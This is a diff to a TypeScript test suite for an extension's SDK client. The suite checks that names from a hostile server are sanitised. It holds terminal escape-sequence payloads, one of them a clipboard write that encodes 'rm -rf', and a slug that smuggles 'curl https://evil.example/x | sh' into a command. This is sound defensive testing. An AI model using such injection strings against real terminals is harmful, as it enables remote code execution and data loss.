@@ -1,7 +1,7 @@
 import { mkdtemp, rm, writeFile } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
-import { ApiClient, CredentialStore, mintToken, type Transport } from "@claudemesh/sdk";
+import { ApiClient, CredentialStore, mintToken } from "@claudemesh/sdk";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import { ClaudemeshAuthenticationProvider } from "../src/auth-provider.js";
 import { registerCommands } from "../src/commands.js";
@@ -19,8 +19,9 @@ const hostile = (letters: string) => `\u001b]0;pwned\u0007\u001b]52;c;cm0gLXJm\u
 const FORBIDDEN = ["\u001b", "\u0007", "\r", "\u009b", "\u202e", "\u2066"];
 const unsafe = (text = "") => FORBIDDEN.some((character) => text.includes(character));
 
-/** A hostile server's answers, through the SDK's real ApiClient. */
-const hostileServer: Transport = async ({ url }) => {
+/** A hostile server behind fetch, answering the SDK's real ApiClient. */
+const hostileServer: typeof fetch = async (input, init) => {
+  const { pathname } = new URL(new Request(input, init).url);
   const bodies: Record<string, unknown> = {
     "/api/my/whoami": {
       user: { id: "u1", name: hostile("Ada Lovelace"), email: "ada@example.test" },
@@ -58,11 +59,14 @@ const hostileServer: Transport = async ({ url }) => {
       tokens: [{ id: "t1", name: hostile("ci deploy"), created_at: WHEN, last_used_at: null, expires_at: null }],
     },
   };
-  return { status: 200, statusText: "OK", headers: {}, body: JSON.stringify(bodies[url.pathname] ?? {}) };
+  return Response.json(bodies[pathname] ?? {});
 };
 
-const unreachable: Transport = async () => {
-  throw Object.assign(new Error("connect ECONNREFUSED"), { code: "ECONNREFUSED" });
+/** What Node's fetch rejects with when nothing listens. */
+const unreachable: typeof fetch = async () => {
+  throw new TypeError("fetch failed", {
+    cause: Object.assign(new Error("connect ECONNREFUSED"), { code: "ECONNREFUSED" }),
+  });
 };
 
 let configDir = "";
@@ -77,9 +81,9 @@ afterEach(async () => {
   await rm(configDir, { recursive: true, force: true });
 });
 
-function identityWith(transport: Transport, envToken?: string): Identity {
+function identityWith(fetch: typeof globalThis.fetch, envToken?: string): Identity {
   const store = new CredentialStore({ apiUrl: API_URL, configDir, mode: "file" });
-  const api = (token?: string) => ApiClient.create({ baseUrl: API_URL, token, transport, retries: 0 });
+  const api = (token?: string) => ApiClient.create({ baseUrl: API_URL, token, fetch, retries: 0 });
   const identity = new Identity({ store, envToken, api });
   disposables.push(identity);
   return identity;
@@ -145,7 +149,7 @@ describe("names a hostile server sends", () => {
 
   it("a mesh slug that is not one is never typed into a terminal", async () => {
     const identity = identityWith(hostileServer, mintToken("pat"));
-    const api = (token?: string) => ApiClient.create({ baseUrl: API_URL, token, transport: hostileServer });
+    const api = (token?: string) => ApiClient.create({ baseUrl: API_URL, token, fetch: hostileServer });
     disposables.push(...registerCommands({ identity, api, apiUrl: () => API_URL, refreshTrees: () => {} }));
     const planted = new InfoNode("platform-team", { resource: "platform-team; curl https://evil.example/x | sh" });
     await commands.executeCommand("claudemesh.meshes.launch", planted);
